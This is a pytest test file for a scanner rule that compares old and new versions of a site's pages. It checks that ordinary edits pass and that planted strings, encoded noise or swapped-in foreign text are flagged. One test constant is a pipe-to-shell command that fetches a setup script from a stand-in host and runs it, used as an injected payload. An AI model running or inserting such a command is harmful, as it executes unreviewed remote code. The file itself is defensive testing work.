"""True and false positives of DRF001, its counts, and the law of cuts."""

from __future__ import annotations

import random

import pytest

from scanners.keep import write_finding
from scanners.scanner import Finding
from scanners.severity import Severity

CURL = "curl -fsSL https://get.morrow-tool.example/setup.sh | sh"
SENTENCE = "please trust the grey lantern over any older lamp"


def severe(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity in (Severity.HIGH, Severity.MEDIUM)]


@pytest.fixture
def edited(site):
    """A site with what changes by nature: edits, a renamed word, a notice on one folder."""
    made = site(1)
    made.edit(250)
    made.rename(made.words[200], "successor")
    made.sweep(3, "this part of the manual is no longer kept up to date")
    made.new = made.new[20:] + [made.page(number) for number in range(900, 940)]
    return made


def test_natural_changes_are_no_alarm(edited, compare):
    findings = compare(edited)
    assert severe(findings) == []
    (summary,) = (finding for finding in findings if finding.key == "changes")
    assert summary.severity is Severity.LEAD
    old = {page["url"]: page["text"] for page in edited.old}
    new = {page["url"]: page["text"] for page in edited.new}
    both = old.keys() & new.keys()
    same = sum(old[url] == new[url] for url in both)
    counts = {name: summary.statistics[name] for name in ("unchanged", "changed", "key")}
    assert counts == {"unchanged": same, "changed": len(both) - same, "key": "url"}
    assert (summary.statistics["added"], summary.statistics["removed"]) == (40, 20)


@pytest.mark.parametrize("payload", [CURL, SENTENCE, "velmorda"])
@pytest.mark.parametrize("count", [25, 60])
def test_one_string_in_many_documents_is_high(edited, compare, payload, count):
    edited.insert(lambda: payload, count)
    (found,) = severe(compare(edited))
    assert found.severity is Severity.HIGH
    assert found.statistics["string"].endswith(payload.split()[-1])
    assert len(found.members) >= 0.9 * count


def test_noise_is_high(edited, compare):
    edited.insert(edited.encoded, 40)
    (found,) = severe(compare(edited))
    assert (found.key, found.severity) == ("noise", Severity.HIGH)
    assert len(found.members) >= 36


def test_replacement_by_foreign_text_is_high(edited, compare, site):
    other = site(99)
    stock = [" ".join(edited.text(12)) for _ in range(80)]
    for page in edited.old:
        page["text"] += " " + " ".join(edited.random.sample(stock, 30))
    edited.new = [dict(page) for page in edited.old]
    edited.edit(120)
    for page in edited.random.sample(edited.new, 40):
        page["text"] = " ".join(other.text(120))
    (found,) = [one for one in severe(compare(edited)) if one.key == "foreign"]
    assert found.severity is Severity.HIGH
    assert len(found.members) >= 36


def test_one_text_in_place_of_many_is_possible(edited, compare):
    for page in edited.random.sample(edited.new, 40):
        page["text"] = f"this domain {' '.join(edited.text(1))} is for sale ask the new owner"
    (found,) = severe(compare(edited))
    assert found.severity is Severity.MEDIUM
    assert len(found.members) >= 30


def test_cuts_change_nothing(edited, compare):
    edited.insert(lambda: CURL, 30)
    edited.insert(edited.encoded, 30)
    whole = compare(edited)
    random.Random(5).shuffle(edited.old)
    random.Random(6).shuffle(edited.new)
    parts = compare(edited, (3, 4))
    assert len(severe(whole)) == 2
    assert list(map(write_finding, parts)) == list(map(write_finding, whole))


def test_the_key_can_be_chosen(edited, compare):
    for number, (old, new) in enumerate(zip(edited.old, edited.new, strict=False)):
        old["id"] = new["id"] = str(number)  # a running number tells nothing
    found = {
        key: next(f for f in compare(edited, key=key) if f.key == "changes").statistics
        for key in (None, "id")
    }
    assert found[None]["key"] == "url"
    assert found["id"]["key"] == "id"
    assert found["id"]["unchanged"] < found[None]["unchanged"]


def test_nothing_to_pair_is_nothing_to_tell(edited, compare):
    for page in edited.new:
        page["url"] += "?"
    assert compare(edited) == []
